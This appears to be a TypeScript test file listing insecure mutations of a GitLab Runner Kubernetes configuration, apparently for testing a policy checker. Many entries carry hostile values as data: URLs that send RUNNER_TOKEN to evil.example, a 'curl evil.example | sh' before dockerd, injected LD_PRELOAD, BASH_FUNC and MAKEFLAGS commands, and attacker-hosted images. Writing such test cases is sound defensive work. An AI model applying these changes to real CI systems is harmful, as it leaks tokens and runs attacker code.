import { type Manifest, push, set } from '../edit';
import {
  editConfig,
  editKubernetes,
  editSection,
  type Mutation,
  manager,
  mutation,
  ofRunner,
  setKubernetes,
} from './mutation';

type Change = Mutation['mutate'];

/** The jobs of the runner that is broken. */
const NEIGHBOURS = { 'runner-fleet/runner': 'docker', 'runner-fleet/role': 'job' };

/** Sets one key of `[[runners]]`. */
function setSection(key: string, value: unknown): Change {
  return (o) => editSection(o, (section) => set(section, [key], value));
}

/** Sets one key at the top of config.toml. */
function setGlobal(key: string, value: unknown): Change {
  return (o) => editConfig(o, (config) => set(config, key, value));
}

/** Adds one variable to the environment of all jobs. */
function variable(entry: string): Change {
  return (o) => editSection(o, (section) => push(section, 'environment', entry));
}

/** Changes the one service of the dind runner. */
function daemon(change: Manifest): Change {
  return (o) =>
    editKubernetes(
      o,
      (kubernetes) => {
        for (const [key, value] of Object.entries(change)) {
          set(kubernetes, `services.0.${key}`, value);
        }
      },
      'dind',
    );
}

const DOCKERD = ['dockerd', '--host=tcp://127.0.0.1:2375', '--tls=false'];

/** Changes of values in config.toml by which a token, a job or a node is lost although no guard is touched. */
export const CONFIG_VALUE_MUTATIONS: readonly Mutation[] = [
  mutation(
    'config-gitlab-url',
    'a URL that carries the token away',
    'SECTION.url | https://evil.example/${RUNNER_TOKEN} | https://host[:port][/path]',
    (o) => editSection(o, (s) => set(s, 'url', 'https://evil.example/${RUNNER_TOKEN}')),
  ),
  mutation(
    'config-gitlab-url',
    'a URL with the token in another notation',
    'SECTION.url | https://e.example/$RUNNER_TOKEN | https://host[:port][/path]',
    setSection('url', 'https://e.example/$RUNNER_TOKEN'),
  ),
  mutation(
    'config-gitlab-url',
    'a URL with a user',
    'SECTION.url | https://...@gitlab.com | https://host[:port][/path]',
    setSection('url', 'https://user@gitlab.com'),
  ),
  mutation(
    'config-gitlab-url',
    'a URL with a query',
    'SECTION.url | https://gitlab.com/?a=b | https://host[:port][/path]',
    setSection('url', 'https://gitlab.com/?a=b'),
  ),
  mutation(
    'config-gitlab-url',
    'one runner that asks somebody else',
    'SECTION.url | https://evil.example | https://gitlab.com',
    setSection('url', 'https://evil.example'),
  ),
  mutation(
    'config-gitlab-url',
    'jobs that clone elsewhere',
    'SECTION.clone_url | evil.example | gitlab.com',
    setSection('clone_url', 'https://evil.example'),
  ),
  mutation(
    'config-gitlab-url',
    'jobs that clone at another port of GitLab',
    'SECTION.clone_url | gitlab.com:8443 | gitlab.com',
    setSection('clone_url', 'https://gitlab.com:8443'),
  ),
  mutation(
    'config-gitlab-url',
    'jobs that clone with a variable',
    'SECTION.clone_url | https://${CI_SERVER_HOST} | https://host[:port][/path]',
    setSection('clone_url', 'https://${CI_SERVER_HOST}'),
  ),
  mutation(
    'config-gitlab-url',
    'jobs that clone with a user',
    'SECTION.clone_url | https://...@gitlab.com | https://host[:port][/path]',
    setSection('clone_url', 'https://a:b@gitlab.com'),
  ),
  mutation(
    'config-values',
    'hooks of containers',
    'KUBERNETES.container_lifecycle',
    setKubernetes('container_lifecycle', { post_start: { exec: { command: ['sh'] } } }),
  ),
  mutation(
    'config-values',
    'a hook that makes the node send a request',
    'KUBERNETES.container_lifecycle',
    setKubernetes('container_lifecycle', { pre_stop: { http_get: { port: 80 } } }),
  ),
  mutation(
    'config-values',
    'names that end with a domain of somebody else',
    'KUBERNETES.dns_config.searches',
    setKubernetes('dns_config', { searches: ['evil.example'] }),
  ),
  mutation(
    'config-values',
    'errors that are sent away',
    'CONFIG / sentry_dsn',
    setGlobal('sentry_dsn', 'https://a@evil.example/1'),
  ),
  mutation(
    'config-cache',
    'a cache with credentials',
    'SECTION.cache.s3.AccessKey',
    setSection('cache', { Type: 's3', s3: { AccessKey: 'a', SecretKey: 'b' } }),
  ),
  mutation(
    'config-cache',
    'a cache with a file of credentials',
    'SECTION.cache.gcs.CredentialsFile',
    setSection('cache', { Type: 'gcs', gcs: { BucketName: 'b', CredentialsFile: '/secrets/key.json' } }),
  ),
  mutation(
    'config-values',
    'a cache that is reached without TLS',
    'SECTION.cache.s3.Insecure',
    setSection('cache', { Type: 's3', s3: { BucketName: 'b', Insecure: true } }),
  ),
  mutation(
    'config-values',
    'a cache whose jobs upload with credentials of a role',
    'SECTION.cache.s3.UploadRoleARN',
    setSection('cache', {
      Type: 's3',
      s3: { BucketName: 'b', UploadRoleARN: 'arn:aws:iam::111122223333:role/a' },
    }),
  ),
  mutation(
    'config-values',
    'a cache whose jobs have credentials of a role',
    'SECTION.cache.s3.RoleARN',
    setSection('cache', { Type: 's3', s3: { BucketName: 'b', RoleARN: 'arn:aws:iam::111122223333:role/a' } }),
  ),
  mutation(
    'config-values',
    'a key of a cache on which nobody decided',
    'SECTION.cache.s3.EndpointOfOthers | a',
    setSection('cache', { Type: 's3', s3: { BucketName: 'b', EndpointOfOthers: 'a' } }),
  ),
  mutation(
    'config-values',
    'a certificate of a client that jobs get',
    'SECTION.tls-key-file',
    setSection('tls-key-file', '/etc/gitlab-runner/k'),
  ),
  mutation(
    'config-values',
    'a file of the manager that jobs get',
    'SECTION.tls-ca-file | /var/run/secrets/kubernetes.io/serviceaccount/token | /etc/gitlab-runner/ca.crt',
    setSection('tls-ca-file', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
  ),
  mutation(
    'config-values',
    'metrics of jobs from an address of somebody else',
    'SECTION.referees',
    setSection('referees', { metrics: { prometheus_address: 'http://evil.example' } }),
  ),
  mutation(
    'job-neighbours',
    'jobs that insist on pods of others',
    'KUBERNETES.affinity.pod_affinity.required_during_scheduling_ignored_during_execution',
    setKubernetes('affinity', {
      pod_affinity: {
        required_during_scheduling_ignored_during_execution: [{ topology_key: 'kubernetes.io/hostname' }],
      },
    }),
  ),
  ...(
    [
      [
        'of another runner',
        { label_selector: { match_labels: { ...NEIGHBOURS, 'runner-fleet/runner': 'nix' } } },
      ],
      [
        'of managers',
        { label_selector: { match_labels: { ...NEIGHBOURS, 'runner-fleet/role': 'manager' } } },
      ],
      ['of every runner', { label_selector: { match_labels: { 'runner-fleet/role': 'job' } } }],
      ['of all sorts', { label_selector: {} }],
      ['of another namespace', { label_selector: { match_labels: NEIGHBOURS }, namespaces: ['shop'] }],
    ] as const
  ).map(([whose, term]) =>
    mutation(
      'job-neighbours',
      `jobs that would rather be beside pods ${whose}`,
      'KUBERNETES.affinity.pod_affinity.preferred_during_scheduling_ignored_during_execution[0]',
      setKubernetes('affinity', {
        pod_affinity: {
          preferred_during_scheduling_ignored_during_execution: [
            { weight: 100, pod_affinity_term: { topology_key: 'kubernetes.io/hostname', ...term } },
          ],
        },
      }),
    ),
  ),
  mutation(
    'config-values',
    'a log of every job in a file',
    'CONFIG / experimental | {"usage_logger":{"enabled":true,"log_dir":"/tmp"}}',
    setGlobal('experimental', { usage_logger: { enabled: true, log_dir: '/tmp' } }),
  ),
  mutation(
    'config-directories',
    'a ConfigMap over the settings of the daemon',
    'DIND_KUBERNETES.volumes.config_map[0].mount_path | /etc/docker',
    (o) =>
      editKubernetes(
        o,
        (k) => set(k, 'volumes.config_map', [{ name: 'x', mount_path: '/etc/docker' }]),
        'dind',
      ),
  ),
  mutation(
    'config-directories',
    'logs over the programs of the image',
    'KUBERNETES.logs_base_dir | /usr/bin | /builds, /cache, /logs, /scripts, /tmp, /home, or a folder below one of them',
    setKubernetes('logs_base_dir', '/usr/bin'),
  ),
  mutation(
    'config-directories',
    'scripts over the configuration of the image',
    'KUBERNETES.scripts_base_dir | /etc | /builds, /cache, /logs, /scripts, /tmp, /home, or a folder below one of them',
    setKubernetes('scripts_base_dir', '/etc'),
  ),
  mutation(
    'config-directories',
    'sources over the data of the daemon',
    'SECTION.builds_dir | /var/lib/docker | /builds, /cache, /logs, /scripts, /tmp, /home, or a folder below one of them',
    setSection('builds_dir', '/var/lib/docker'),
  ),
  mutation(
    'config-directories',
    'a cache that climbs',
    'SECTION.cache_dir | /cache/../etc | /builds, /cache, /logs, /scripts, /tmp, /home, or a folder below one of them',
    setSection('cache_dir', '/cache/../etc'),
  ),
  mutation(
    'config-environment',
    'a library in every program',
    'SECTION.environment | LD_PRELOAD',
    variable('LD_PRELOAD=/builds/x.so'),
  ),
  mutation(
    'config-environment',
    'a script in every bash',
    'SECTION.environment | BASH_ENV',
    variable('BASH_ENV=/builds/x.sh'),
  ),
  mutation(
    'config-environment',
    'a script in every shell',
    'SECTION.environment | ENV',
    variable('ENV=/builds/x.sh'),
  ),
  mutation(
    'config-environment',
    'other programs first',
    'SECTION.environment | PATH',
    variable('PATH=/builds/bin:/usr/bin'),
  ),
  mutation(
    'config-environment',
    'a command at every prompt',
    'SECTION.environment | PROMPT_COMMAND',
    variable('PROMPT_COMMAND=curl evil.example'),
  ),
  mutation(
    'config-environment',
    'another ssh for git',
    'SECTION.environment | GIT_SSH_COMMAND',
    variable('GIT_SSH_COMMAND=sh -c x'),
  ),
  mutation(
    'config-environment',
    'settings of git',
    'SECTION.environment | GIT_CONFIG_COUNT',
    variable('GIT_CONFIG_COUNT=1'),
  ),
  mutation(
    'config-environment',
    'git without TLS',
    'SECTION.environment | GIT_SSL_NO_VERIFY',
    variable('GIT_SSL_NO_VERIFY=true'),
  ),
  mutation(
    'config-environment',
    'a command in the flags of git',
    'SECTION.environment | GIT_FETCH_EXTRA_FLAGS',
    variable('GIT_FETCH_EXTRA_FLAGS=--upload-pack=/builds/x'),
  ),
  mutation(
    'config-environment',
    'a command in every make',
    'SECTION.environment | MAKEFLAGS',
    variable('MAKEFLAGS=-j4 --eval=$(shell /builds/x)'),
  ),
  mutation(
    'config-environment',
    'a module in every node',
    'SECTION.environment | NODE_OPTIONS',
    variable('NODE_OPTIONS=--require /builds/x.js'),
  ),
  mutation(
    'config-environment',
    'a module in every python',
    'SECTION.environment | PYTHONSTARTUP',
    variable('PYTHONSTARTUP=/builds/x.py'),
  ),
  mutation(
    'config-environment',
    'a module in every perl',
    'SECTION.environment | PERL5OPT',
    variable('PERL5OPT=-Mx'),
  ),
  mutation(
    'config-environment',
    'a function of bash',
    'SECTION.environment | BASH_FUNC_git%%',
    variable('BASH_FUNC_git%%=() { curl evil.example; }'),
  ),
  mutation(
    'config-environment',
    'an agent in every JVM',
    'SECTION.environment | JAVA_TOOL_OPTIONS',
    variable('JAVA_TOOL_OPTIONS=-javaagent:/builds/x.jar'),
  ),
  mutation(
    'config-environment',
    'another daemon',
    'SECTION.environment | DOCKER_HOST',
    variable('DOCKER_HOST=tcp://evil.example:2375'),
  ),
  mutation(
    'config-environment',
    'a token of GitLab',
    'SECTION.environment | CI_JOB_TOKEN',
    variable('CI_JOB_TOKEN=x'),
  ),
  mutation(
    'config-environment',
    'a library in the daemon',
    'DIND_KUBERNETES.services[0].environment | LD_PRELOAD',
    daemon({ environment: ['LD_PRELOAD=/builds/x.so'] }),
  ),
  mutation(
    'daemon-command',
    'a shell before the daemon',
    'DIND_KUBERNETES.services[0].command | sh',
    daemon({ command: ['sh', '-c', 'curl evil.example | sh; exec dockerd --host=tcp://127.0.0.1:2375'] }),
  ),
  mutation(
    'daemon-command',
    'a shell as the entrypoint of the daemon',
    'DIND_KUBERNETES.services[0].entrypoint | ["sh","-c","x"] | dockerd, dockerd-entrypoint.sh, /usr/local/bin/dockerd, /usr/local/bin/dockerd-entrypoint.sh',
    daemon({ entrypoint: ['sh', '-c', 'x'] }),
  ),
  mutation(
    'daemon-command',
    'a registry without TLS',
    'DIND_KUBERNETES.services[0].command | --insecure-registry=0.0.0.0/0',
    daemon({ command: [...DOCKERD, '--insecure-registry=0.0.0.0/0'] }),
  ),
  mutation(
    'daemon-command',
    'a runtime of somebody else',
    'DIND_KUBERNETES.services[0].command | --add-runtime=x=/builds/x',
    daemon({ command: [...DOCKERD, '--add-runtime=x=/builds/x'] }),
  ),
  mutation(
    'daemon-command',
    'a plugin that decides',
    'DIND_KUBERNETES.services[0].command | --authorization-plugin',
    daemon({ command: [...DOCKERD, '--authorization-plugin', 'x'] }),
  ),
  mutation(
    'daemon-command',
    'a configuration that jobs write',
    'DIND_KUBERNETES.services[0].command | --config-file=/builds/daemon.json',
    daemon({ command: [...DOCKERD, '--config-file=/builds/daemon.json'] }),
  ),
  mutation(
    'daemon-command',
    'a command in a variable',
    'DIND_KUBERNETES.services[0].command | $(X)',
    daemon({ command: [...DOCKERD, '$(X)'] }),
  ),
  mutation(
    'service-names',
    'a service that answers as GitLab',
    'DIND_KUBERNETES.services[0].alias | gitlab.com',
    daemon({ alias: 'docker gitlab.com' }),
  ),
  mutation(
    'service-names',
    'a name of GitLab for the pod itself',
    'KUBERNETES.host_aliases[0].hostnames | gitlab.com',
    setKubernetes('host_aliases', [{ ip: '127.0.0.1', hostnames: ['docker', 'gitlab.com'] }]),
  ),
  mutation(
    'image-registries',
    'a helper of somebody else',
    'KUBERNETES.helper_image | registry.attacker.example/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.3.2',
    setKubernetes(
      'helper_image',
      'registry.attacker.example/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v19.3.2',
    ),
  ),
  mutation(
    'image-registries',
    'a helper that only begins like one',
    'KUBERNETES.helper_image | registry.gitlab.com/gitlab-org/gitlab-runner-evil/helper:1.0',
    setKubernetes('helper_image', 'registry.gitlab.com/gitlab-org/gitlab-runner-evil/helper:1.0'),
  ),
  mutation(
    'image-registries',
    'a manager of somebody else',
    'MANAGER.containers[0].image | docker.io/attacker/gitlab-runner:alpine-v19.3.2',
    (o) => set(manager(o), 'image', 'docker.io/attacker/gitlab-runner:alpine-v19.3.2'),
  ),
  mutation(
    'image-registries',
    'images of a registry that no policy names',
    'KUBERNETES.allowed_images | evil.example',
    setKubernetes('allowed_images', ['docker.io/library/*:*', 'evil.example/**']),
  ),
  mutation(
    'image-allow-lists',
    'every registry of a domain',
    'KUBERNETES.allowed_images | *.example/**',
    setKubernetes('allowed_images', ['docker.io/library/*:*', '*.example/**']),
  ),
  mutation(
    'image-allow-lists',
    'every registry with one path',
    'KUBERNETES.allowed_images | */*:*',
    setKubernetes('allowed_images', ['docker.io/library/*:*', '*/*:*']),
  ),
  mutation(
    'image-allow-lists',
    'a registry among braces',
    'KUBERNETES.allowed_services | {docker.io/library,*.evil.example}/docker:*',
    setKubernetes('allowed_services', ['{docker.io/library,*.evil.example}/docker:*']),
  ),
  mutation(
    'config-capacity',
    'more jobs than the quota holds',
    'SECTION.limit | 400 | 4',
    setGlobal('concurrent', 400),
  ),
  mutation(
    'config-capacity',
    'a flood of requests',
    'SECTION.request_concurrency | 10000 | 100',
    setSection('request_concurrency', 10_000),
  ),
  mutation('config-capacity', 'more replicas than the quota holds', 'SECTION.limit | 12 | 4', (o) =>
    set(ofRunner(o, 'Deployment'), 'spec.replicas', 3),
  ),
  mutation(
    'config-capacity',
    'a limit of nothing',
    'KUBERNETES.memory_limit | 0',
    setKubernetes('memory_limit', '0'),
  ),
  mutation(
    'config-capacity',
    'a limit above the range of the namespace',
    'KUBERNETES.cpu_limit | 64 | 8',
    setKubernetes('cpu_limit', '64'),
  ),
  mutation(
    'config-capacity',
    'jobs that raise their own limit',
    'KUBERNETES.memory_limit_overwrite_max_allowed | 1Ti | 17179869184',
    setKubernetes('memory_limit_overwrite_max_allowed', '1Ti'),
  ),
  mutation(
    'config-capacity',
    'jobs that raise the limit of their services',
    'KUBERNETES.service_cpu_limit_overwrite_max_allowed | 64 | 8',
    setKubernetes('service_cpu_limit_overwrite_max_allowed', '64'),
  ),
];
